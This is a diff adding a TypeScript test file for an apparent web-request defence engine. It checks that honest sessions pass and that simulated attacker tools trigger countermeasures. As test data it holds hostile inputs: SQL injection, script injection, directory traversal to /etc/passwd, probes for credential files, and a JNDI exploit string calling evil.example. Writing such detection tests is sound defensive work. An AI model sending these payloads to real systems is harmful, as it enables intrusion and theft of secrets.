@@ -1,0 +1,118 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { loadConfig } from '@postern/config'
+import { type RequestSource, VirtualClock } from '@postern/core'
+import { buildEngine } from '../src/build-engine.ts'
+import { memoryResources } from '../src/open-resources.ts'
+import { HONEST_SESSIONS, type HonestRequest } from './honest-sessions.ts'
+
+const CLIENT = '203.0.113.7'
+
+function sourceOf({ method, target, headers, body }: HonestRequest): RequestSource {
+  const bytes = new TextEncoder().encode(body ?? '')
+  return {
+    method,
+    target,
+    headers: [
+      'Host',
+      'shop.example',
+      ...(body === undefined ? [] : ['Content-Length', `${bytes.length}`]),
+      ...headers,
+    ],
+    peer: CLIENT,
+    secure: false,
+    httpVersion: '1.1',
+    body:
+      body === undefined
+        ? undefined
+        : { read: async limit => ({ bytes: bytes.subarray(0, limit), complete: bytes.length <= limit }) },
+    native: undefined,
+  }
+}
+
+/** What the default configuration did to a session, at a multiple of the speed at which it was recorded. */
+async function outcomeOf(
+  session: readonly HonestRequest[],
+  speed: number,
+): Promise<{ refused: string[]; measures: string[] }> {
+  const clock = new VirtualClock()
+  const loaded = await loadConfig({ config: {}, folder: '/nowhere', environment: {} })
+  const resources = await memoryResources(loaded, clock)
+  const { engine } = buildEngine(loaded, resources, 'serve')
+  const refused: string[] = []
+  const measures = new Set<string>()
+  engine.listen(event => {
+    if (event.type === 'finding' && event.data?.['measure'] !== undefined)
+      measures.add(String(event.data['scenario']))
+  })
+  let now = 0
+  for (const request of [...session].sort((a, b) => a.at - b.at)) {
+    const at = request.at / speed
+    clock.advance(Math.max(0, at - now))
+    now = Math.max(now, at)
+    const exchange = engine.open(sourceOf(request))
+    const decision = await engine.decide(exchange)
+    if (decision.effect !== 'allow' && !(request.content !== undefined && decision.guard === 'inspect'))
+      refused.push(`${request.method} ${request.target}: ${decision.reasons[0].rule}`)
+    const status = decision.effect === 'allow' ? request.status : decision.status
+    engine.settle(exchange, { status, duration: 5, bytes: 500, aborted: false })
+  }
+  for (const { origin, actor } of resources.remediations.list())
+    measures.add(`${origin} against ${actor.kind}`)
+  await resources.close()
+  return { refused, measures: [...measures] }
+}
+
+describe('honest sessions meet no refusal and no measure of the default configuration', () => {
+  for (const [name, session] of Object.entries(HONEST_SESSIONS)) {
+    for (const speed of [1, 4]) {
+      test(`${name}, at ${speed} times its speed`, async () => {
+        const { refused, measures } = await outcomeOf(session, speed)
+        assert.deepEqual({ refused: refused.slice(0, 3), measures }, { refused: [], measures: [] })
+      })
+    }
+  }
+
+  test('there are at least twelve kinds of them', () => assert.ok(Object.keys(HONEST_SESSIONS).length >= 12))
+})
+
+/** Requests of tools as they send them, without what names them: the agent is a library's. */
+const TOOLS: Readonly<Record<string, (n: number) => Partial<HonestRequest>>> = {
+  'a search for names of pages': n => ({
+    target: `/${['admin', 'backup', 'old', 'test', 'dev'][n % 5]}-${n}`,
+    status: 404,
+  }),
+  'a search for files that should not be served': n => ({
+    target: `/${['.git/config', '.env', '.aws/credentials', '.htpasswd', 'dump.sql', 'backup.zip', '.ssh/id_rsa'][n % 7]}?${n}`,
+    status: 404,
+  }),
+  'SQL injection into an id': n => ({
+    target: `/products?id=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
+    status: 500,
+  }),
+  'SQL injection into a field of search': n => ({
+    target: `/search?q=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
+  }),
+  'script into every parameter': n => ({ target: `/products?p${n}=%3Cscript%3Ealert(${n})%3C/script%3E` }),
+  'directories climbed': n => ({ target: `/download?name=${'..%2f'.repeat((n % 8) + 1)}etc%2fpasswd${n}` }),
+  'payloads of known exploits': n => ({ target: `/?x${n}=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2F${n}%7D` }),
+  'passwords guessed': n => ({ method: 'POST', target: n % 2 === 0 ? '/login' : '/signin', status: 401 }),
+  'ids of others, counted': n => ({ target: `/api/invoices/${n + 1}`, status: n % 3 === 0 ? 200 : 403 }),
+}
+
+describe('tools of attackers meet a measure of the default configuration', () => {
+  for (const [name, make] of Object.entries(TOOLS)) {
+    test(name, async () => {
+      const session = Array.from({ length: 120 }, (_, n) => ({
+        at: n * 200,
+        method: 'GET',
+        target: '/',
+        status: 200,
+        headers: ['User-Agent', 'python-requests/2.32'],
+        ...make(n),
+      }))
+      const { measures } = await outcomeOf(session, 1)
+      assert.notDeepEqual(measures, [])
+    })
+  }
+})
